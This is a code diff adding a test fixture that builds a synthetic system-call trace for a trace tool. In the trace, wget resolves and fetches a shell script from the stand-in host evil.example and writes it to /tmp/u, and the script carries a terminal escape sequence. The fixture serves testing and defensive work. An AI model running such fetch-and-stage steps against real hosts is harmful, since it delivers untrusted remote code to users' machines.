@@ -117,6 +117,38 @@ void add_break_in(TraceBuilder& trace) {
   trace.exit(dropped, 0, SIGKILL).exit(shell, 137);
 }
 
+// A script is fetched with its bytes, made runnable and run; it looks up a
+// name and talks back, in the clear.
+void add_talk(TraceBuilder& trace) {
+  const std::string request = "GET /u HTTP/1.1\r\nHost: evil.example\r\n\r\n";
+  const std::string script = "#!/bin/sh\necho \x1b[2J owned\n";
+  const std::string response = "HTTP/1.1 200 OK\r\n\r\n" + script;
+  const std::string query(
+      "\x12\x34\x01\0\0\x01\0\0\0\0\0\0\x04"
+      "evil\x07"
+      "example\0\0\x01\0\x01",
+      30);
+  const auto send = [&](uint32_t pid, int fd, const std::string& bytes) {
+    trace.write(pid, fd, int64_t(bytes.size())).payload(1, bytes, bytes.size());
+  };
+  const uint32_t wget = start(trace, 823, {"/usr/bin/wget", "evil.example/u"});
+  sockaddr_in to{};
+  to.sin_family = AF_INET;
+  to.sin_port = htons(53);
+  inet_pton(AF_INET, "192.0.2.53", &to.sin_addr);
+  trace.call(wget, "socket", {AF_INET, SOCK_DGRAM, 0}, 3);
+  trace.call(wget, "connect", {3, 1, sizeof to}, 0)
+      .part(1, PartKind::kSockaddr, to);
+  send(wget, 3, query);
+  connect_to(trace, wget, 4, "203.0.113.9", 80, 0);
+  send(wget, 4, request);
+  trace.read(wget, 4, int64_t(response.size()))
+      .payload(1, response, response.size());
+  trace.create(wget, "/tmp/u", 5);
+  send(wget, 5, script);
+  trace.close(wget, 5).close(wget, 4).exit(wget);
+}
+
 // Bytes that would steer, reorder or flood a terminal.
 void add_deception(TraceBuilder& trace) {
   const std::string names[] = {
@@ -185,6 +217,8 @@ void write_story(std::string_view name, const std::string& path) {
     add_break_in(trace);
   } else if (name == "hostile") {
     add_deception(trace);
+  } else if (name == "talk") {
+    add_talk(trace);
   } else {
     ASSERT_EQ(name, "empty");
   }
